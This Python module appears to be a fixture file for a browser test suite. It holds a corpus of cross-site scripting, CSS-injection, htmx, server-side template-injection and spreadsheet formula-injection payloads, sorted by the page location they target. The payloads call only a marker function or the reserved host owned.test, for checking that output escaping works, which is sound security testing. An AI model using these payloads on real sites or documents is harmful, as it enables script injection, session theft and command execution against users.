"""Text that becomes a program, or somebody else's page, wherever a page takes text for markup.

Each was written for these tests, for one place in a page (``Sink``). Where it takes effect it calls ``__owned`` with
its number, or asks a host that nobody has for a path with that number, or leaves its number behind ``MARK``, or an
element behind: all of that is seen, by ``tests.browser.noticed`` and ``tests.browser.unharmed``. ``test_payloads.py``
shows that each does take effect on a page that is as careless as it can be; so none is here that is never seen.
"""

from __future__ import annotations

from enum import StrEnum
from typing import Final

from attrs import frozen

HOST: Final = "owned.test"
"""A name of those that are reserved for tests (RFC 6761 section 6.2)."""
MARK: Final = "OWNED-"
"""Is in no payload as it stands; one that a template evaluates, becomes this and its number."""
INJECTED: Final = "data-owned"
"""An attribute of what a payload adds, wherever it adds an element that does nothing by itself."""


class Sink(StrEnum):
    """Where a careless page puts a text."""

    HTML = "between tags"
    DOUBLE = "in an attribute, in double quotation marks"
    SINGLE = "in an attribute, in single quotation marks"
    BARE = "in an attribute, without quotation marks"
    LINK = "as where a link leads"
    COMMENT = "in a comment"
    TITLE = "in the title"
    TEXTAREA = "in a text field of several lines"
    SCRIPT = "in a string of a script"
    ESCAPED = "the same, with a backslash before each quotation mark"
    STYLE = "in a style sheet"
    STYLE_ATTRIBUTE = "in a style of an element"
    LATE = "by a script, as HTML"
    FILTERED = "between tags, without `<script>`"
    HTMX = "between tags, of a page with htmx"
    TEMPLATE = "in a template that the server evaluates"


@frozen
class Payload:
    """A hostile text.

    Attributes:
        number: Which; what it calls with.
        sink: The place that it is made for.
        text: The text.
    """

    number: int
    sink: Sink
    text: str


_CALL, _URL, _NUMBER = "CALL", "URL", "NUMBER"

_WRITTEN: Final[dict[Sink, tuple[str, ...]]] = {
    Sink.HTML: (
        "<script>CALL</script>",
        "<SCRIPT>CALL</SCRIPT >",
        "<script/x>CALL</script/x>",
        "<script\n>CALL</script>",
        "<script src=//URL></script>",
        "<script type=module>CALL</script>",
        "<img src=x onerror=CALL>",
        "<img/src='x'/onerror='CALL'>",
        '<img src=x onerror="&#119;indow.__owned(NUMBER)">',
        "<img src=//URL data-owned>",
        "<IMG SRC=x ONERROR=CALL//",
        "<body onload=CALL>",
        "<svg onload=CALL>",
        "<svg><script>CALL</script></svg>",
        "<svg><script>window&#46;__owned&#40;NUMBER&#41;</script></svg>",
        "<svg><animate onbegin=CALL attributeName=x dur=1s></svg>",
        "<svg><image href=//URL></svg>",
        "<svg><style><img src=x onerror=CALL></style></svg>",
        "<math><mtext><img src=x onerror=CALL></mtext></math>",
        "<details open ontoggle=CALL>",
        "<input autofocus onfocus=CALL>",
        "<video><source onerror=CALL></video>",
        "<audio src=x onerror=CALL>",
        "<iframe srcdoc='<script>parent.__owned(NUMBER)</script>'></iframe>",
        "<iframe src='javascript:parent.__owned(NUMBER)'></iframe>",
        "<object data='javascript:parent.__owned(NUMBER)' data-owned></object><iframe src=//URL></iframe>",
        "<embed src=//URL>",
        "<link rel=stylesheet href=//URL>",
        "<style>@import '//URL';</style>",
        "<style>* { background: url(//URL) }</style>",
        "<div style='background:url(//URL)'>x</div>",
        "<meta http-equiv=refresh content='0;url=//URL'>",
        "<base href=//HOST/><img src=NUMBER>",
        "<form id=f action=//URL data-owned></form><img src=x onerror=document.getElementById('f').submit()>",
        "<a id=__watchfloor name=cookie data-owned></a><form id=body data-owned><input name=dataset data-owned></form>",
        "<b data-owned>NUMBER</b>",
        "<template><img></template><img src=x onerror=CALL>",
        "<noscript><p title='</noscript><img src=x onerror=CALL>'>",
        "</title></textarea></style></script><img src=x onerror=CALL>",
        "<!--><img src=x onerror=CALL>-->",
        "<![CDATA[><img src=x onerror=CALL>]]>",
        "<?x ><img src=x onerror=CALL>",
        "<div><div><div><table><tr><td><p><b><i><img src=x onerror=CALL>",
        "\ufeff<img src=x onerror=CALL>",
        "\u202e<img src=x onerror=CALL>\u202c",
        "\u2028<img src=x onerror=CALL>\u2029",
        "<img src=x\u0000onerror=x onerror=CALL>",
        "<img src=x \u000conerror\u000c=CALL>",
        f"{'A' * 150}<img src=x onerror=CALL>",
        "<x onfocus=CALL tabindex=1 id=x autofocus>",
        "<p id=p onanimationstart=CALL style=animation:k>x</p><style>@keyframes k{}</style>",
    ),
    Sink.DOUBLE: (
        '"><script>CALL</script>',
        '" autofocus onfocus="CALL',
        '"/autofocus/onfocus="CALL',
        '\\"autofocus onfocus=CALL x="',
        '"\nautofocus\tonfocus="CALL',
        '" type=image src=x onerror="CALL',
    ),
    Sink.SINGLE: ("'><svg onload=CALL>", "' autofocus onfocus='CALL", "\\' autofocus onfocus=CALL x='"),
    Sink.BARE: (
        "x autofocus onfocus=CALL",
        "x\tautofocus\tonfocus=CALL",
        "x><svg/onload=CALL>",
        "x\u000cautofocus\u000confocus=CALL",
    ),
    Sink.LINK: (
        "javascript:CALL",
        "JaVaScRiPt:CALL",
        " \u0001javascript:CALL",
        "java\nscript:CALL",
        "java\tscript:CALL",
        "javascript://%0aCALL",
        "javascript:'<script>'+CALL",
        "//URL",
        "https:URL",
        "\\\\URL",
    ),
    Sink.COMMENT: ("--><img src=x onerror=CALL>", "--!><img src=x onerror=CALL>", "-->\n<script>CALL</script><!--"),
    Sink.TITLE: ("</title><img src=x onerror=CALL>", "</TITLE\n><svg onload=CALL>"),
    Sink.TEXTAREA: ("</textarea><img src=x onerror=CALL>", "</textarea\t><svg onload=CALL>"),
    Sink.SCRIPT: (
        '"}];CALL;[{"x":"',
        '"-CALL-"',
        "</script><script>CALL</script>",
        '"}];CALL;//',
        '"+`${CALL}`+"',
    ),
    Sink.ESCAPED: ('\\"}];CALL;//', "</script><svg onload=CALL>"),
    Sink.STYLE: ("}</style><img src=x onerror=CALL>", "x;background:url(//URL)", "red}*{background:url(//URL)}"),
    Sink.STYLE_ATTRIBUTE: ("background-image:url(//URL)", "x;list-style:url(//URL);display:list-item"),
    Sink.LATE: ("<img src=x onerror=CALL>", "<iframe srcdoc='<script>parent.__owned(NUMBER)</script>'></iframe>"),
    Sink.FILTERED: ("<scr<script>ipt>CALL</script>", "<<script>script>CALL</script>"),
    Sink.HTMX: (
        "<div hx-get=//URL hx-trigger=load></div>",
        "<div data-hx-get=//URL data-hx-trigger=load></div>",
        "<div hx-on:click=CALL id=c></div><img src=x onerror=document.getElementById('c').click()>",
        "<button hx-post='//URL' hx-trigger='every 10ms'>x</button>",
    ),
    Sink.TEMPLATE: (
        "{{ ['OWN', 'ED-', 'NUMBER'] | join }}",
        "{% print 'OWN' 'ED-' 'NUMBER' %}",
        "{{ 'OWN' ~ 'ED-' ~ (NUMBER + 7 * 7 - 49) }}",
        "#{1}${7*7}<%= 7*7 %>{{ 'OWN' 'ED-' 'NUMBER' }}",
    ),
}

_OF_OTHER_TIMES: Final = (
    "<div style='width:expression(CALL)'>",
    "+ADw-script+AD4-CALL+ADw-/script+AD4-",
    '<img src="vbscript:CALL">',
    "<xss style=-moz-binding:url(//URL)>",
    "\uff1cscript\uff1eCALL\uff1c/script\uff1e",
    '=HYPERLINK("http://URL","open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "%3Cscript%3ECALL%3C/script%3E",
    "&lt;script&gt;CALL&lt;/script&gt;",
    "\\u003cscript\\u003eCALL\\u003c/script\\u003e",
    "../../../console/sign-out",
    "{{7*7}}",
)
"""No page of today's Chromium runs them as they stand; browsers of other times, spreadsheets, and whatever decodes once
too often, may."""


def _made(number: int, sink: Sink, text: str) -> Payload:
    made = text.replace(_CALL, f"window.__owned({number})").replace(_URL, f"{HOST}/{number}").replace("HOST", HOST)
    return Payload(number, sink, made.replace(_NUMBER, str(number)))


_ALL: Final = [(sink, text) for sink, texts in _WRITTEN.items() for text in texts]

CORPUS: Final = tuple(_made(number, sink, text) for number, (sink, text) in enumerate(_ALL, start=1))
"""Every payload that takes effect where it is made for."""

ALSO: Final = tuple(_made(number, Sink.HTML, text) for number, text in enumerate(_OF_OTHER_TIMES, start=1_001))
"""Those that no page of this browser runs."""
